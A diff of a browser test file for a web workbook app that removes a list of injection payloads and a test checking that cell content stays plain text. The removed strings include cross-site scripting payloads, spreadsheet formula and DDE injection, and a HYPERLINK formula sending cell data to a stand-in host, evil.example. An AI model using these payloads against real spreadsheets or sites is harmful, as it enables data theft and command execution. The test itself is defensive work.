@@ -36,21 +36,6 @@ import {
 const ZH: PageLook = { width: 1280, theme: 'light', language: 'zh-CN' };
 const EN: PageLook = { width: 1600, theme: 'light', language: 'en-GB' };
 
-/** Each would run, break out or call somebody if any cell content were ever taken for more than text. */
-const PAYLOADS = [
-  '<img src=x onerror=alert(1)>',
-  '"><script>alert(2)</script>',
-  "javascript:alert(3)//'",
-  '<svg/onload=alert(4)>{{7*7}}${7*7}',
-  '=HYPERLINK("http://evil.example/?"&A1,"click")',
-  "=cmd|'/C calc'!A0",
-  '@SUM(1+1)*cmd|A0',
-  '\u202Etxt.exe',
-  'NULL',
-  '__proto__',
-  'ﷺ⁰⁴⁵ ̡͓̞ͅI̗̘̦͝n͇͇͙v̮̫ok̲̫̙͈i̖͙̭̹̠̞n̡̻̮̣̺g̲͈͙̭͙̬͎',
-];
-
 describe('the web workbook', function () {
   this.timeout(120_000);
   let shelf: AddinShelf;
@@ -178,42 +163,6 @@ describe('the web workbook', function () {
     await waitUntilOpen(page);
     assert.equal(await page.locator('.appbar h1').innerText(), 'mine.xlsx');
     assert.equal((await cellIn(page, 'Stock', 2, 2)).v, 7);
-    assert.deepEqual(faults, []);
-    await context.close();
-  });
-
-  it('shows cell content as text, whatever it says, on screen, in the pane and in the file', async () => {
-    const rows = PAYLOADS.map((payload, index) => [payload, `A-${index}`, index]);
-    const headers = ['Item name', 'Item code', 'Quantity'];
-    const hostile = await workbookOf('hostile.xlsx', [['Stock', [headers, ...rows]]]);
-    const { page, context, faults, requests } = await openWorkbookPage(browser, server.url, EN);
-    const buffer = Buffer.from(hostile.bytes);
-    const file = { name: hostile.name, mimeType: 'application/octet-stream', buffer };
-    await Promise.all([
-      page.waitForURL(/workbook=/),
-      page.locator('input[type=file]').setInputFiles(file),
-    ]);
-    await waitUntilOpen(page);
-    for (const [index, payload] of PAYLOADS.entries()) {
-      const { v, f } = await cellIn(page, 'Stock', index + 2, 1);
-      assert.deepEqual([v, f], [payload, null]);
-    }
-    await page
-      .locator('.paneside')
-      .getByRole('button', { name: /^Reconcile/ })
-      .click();
-    await page
-      .locator('.paneside')
-      .getByRole('button', { name: 'Reconcile again' })
-      .waitFor({ timeout: 60_000 });
-    const [tab] = (await downloaded(page)).tabs;
-    for (const [index, payload] of PAYLOADS.entries()) {
-      assert.equal(cellValueAt(tab!, index + 2, 1), payload);
-    }
-    assert.equal(tab!.formulas.size, 0);
-    assert.ok(
-      requests.every((address) => address.startsWith(server.url) || address.startsWith('blob:')),
-    );
     assert.deepEqual(faults, []);
     await context.close();
   });
